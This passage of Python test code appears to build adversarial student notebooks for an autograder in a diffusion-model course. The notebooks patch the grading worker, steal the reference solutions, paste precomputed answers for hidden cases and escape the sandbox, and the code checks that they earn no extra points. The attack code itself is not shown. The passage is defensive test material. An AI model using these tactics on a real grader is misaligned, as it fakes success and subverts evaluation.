    alice.cells.append(nbformat.v4.new_markdown_cell("My notes: the mean and the variance follow the lesson."))
    nbs["alice2"] = alice
    bob = _ddpm_cell(solved=True)
    bob = rename_in_solution(bob, "compute_posterior_mean", {"s": "sched", "alpha": "a_t", "abar": "ab_t",
                                                              "x0_hat": "x0_est"}, "my own working of μ")
    bob = rename_in_solution(bob, "ddpm_step", {"eps": "eps_theta", "mean": "mu", "z": "fresh"}, "one reverse step")
    nbs["bob2"] = mini("02", {"ddpm_sampler": bob}, solved=True)
    nbs["untouched"] = mini("02")

    # 1. the worker patched at class-definition time; the graded methods stay TODO
    cell = _insert_in_class(_ddpm_cell(), "DDPMSampler", "    _attack_patched = _attack_hijack()\n")
    nbs["patcher"] = mini("02", {"ddpm_sampler": config("patcher") + STEAL_SOURCE + HIJACK_SOURCE + "\n\n" + cell})

    # 2. method bodies that unwrap, reload, re-read and flip their way to the reference
    cell = _replace_stubs(_ddpm_cell(), "DDPMSampler", UNWRAP_METHODS)
    nbs["unwrapper"] = mini("02", {"ddpm_sampler": config("unwrapper") + STEAL_SOURCE + UNWRAP_SOURCE + "\n\n" + cell})

    # 3. answers for the hidden cases of the shipped seed: pasted in, rebuilt in place, left by the kernel
    cell = _insert_in_class(_ddpm_cell(), "DDPMSampler", "    _attack_answers = _attack_table()\n")
    for method, (params, body) in PRECOMPUTE_METHODS.items():
        cell = _replace_signature(cell, method, params)
        cell = _replace_stubs(cell, "DDPMSampler", {method: body})
    pasted = f"def _attack_pasted_table():\n    return {precomputed_table(cfg)!r}\n\n"
    nbs["precompute"] = mini("02", {"ddpm_sampler": config("precompute") + pasted + PRECOMPUTE_SOURCE + "\n\n" + cell},
                             ["left = _attack_share_table(DDPMSampler._attack_answers)\n"
                              "print('left the table in', len(left), 'places')"])

    # 4. ddpm_step reseeds the global RNG instead of drawing from `generator`; the rest is right
    cell = _ddpm_cell(solved=True)
    cell = cell.replace("        z = self.randn(x_t.shape, generator) if noise is None else noise\n",
                        "        if noise is None:\n            torch.manual_seed(1234)\n"
                        "            noise = torch.randn_like(x_t)\n        z = noise\n")
    assert "manual_seed(1234)" in cell
    nbs["generator"] = mini("02", {"ddpm_sampler": cell}, solved=True)

    # 8. labsupport's reference pasted into sample; the other methods are the student's
    cell = _replace_solution(_ddpm_cell(solved=True), "sample", pasted_reference_body("sample"))
    cell = _replace_signature(cell, "sample", "self, shape, return_trajectory=False, *, x_T=None, generator=None, "
                                              "y=None, guidance_scale=None, progress=None, record_every=None")
    nbs["paster"] = mini("02", {"ddpm_sampler": "from labsupport.samplers import Trajectory\n\n" + cell}, solved=True)

    # 5, 6, 7. processes left behind, forged files, self-editing, leaks: in the kernel and in the worker
    cell = _insert_in_class(_forward_cell(), "ForwardProcessImpl",
                            "    _attack_done = _attack_everything(_attack_place())\n")
    cell = _replace_stubs(cell, "ForwardProcessImpl", ESCAPE_METHODS)
    # counts only: the paths written hold the marker, which must appear in no output of a contained run
    kernel = ("print('kernel cell:', _attack_summary(_attack_everything('3')))\n"
              "print('kernel class body:', _attack_summary(ForwardProcessImpl._attack_done))\n"
              "print(_attack_leak())")
    nbs["escaper"] = mini("01", {"forward_process": config("escaper") + ESCAPE_SOURCE + "\n\n" + cell}, [kernel])
    return nbs


STUDENTS = ("honest", "alice2", "bob2", "untouched", "patcher", "unwrapper", "precompute", "generator", "paster",
            "escaper")
ATTACKED = {   # notebook -> the (piece, method)s it attacks, whose points must stay the untouched edition's
    "patcher": [("ddpm_sampler", m) for m in ("compute_posterior_mean", "compute_posterior_variance", "ddpm_step",
                                                 "sample")],
    "unwrapper": [("ddpm_sampler", m) for m in ("compute_posterior_mean", "compute_posterior_variance", "ddpm_step",
                                                   "sample")],
    "precompute": [("ddpm_sampler", m) for m in ("compute_posterior_mean", "compute_posterior_variance", "ddpm_step",
                                                    "sample")],
    "generator": [("ddpm_sampler", "ddpm_step")],
    "paster": [("ddpm_sampler", "sample")],
    "escaper": [("forward_process", "add_noise"), ("forward_process", "demonstrate_forward_trajectory")],
}
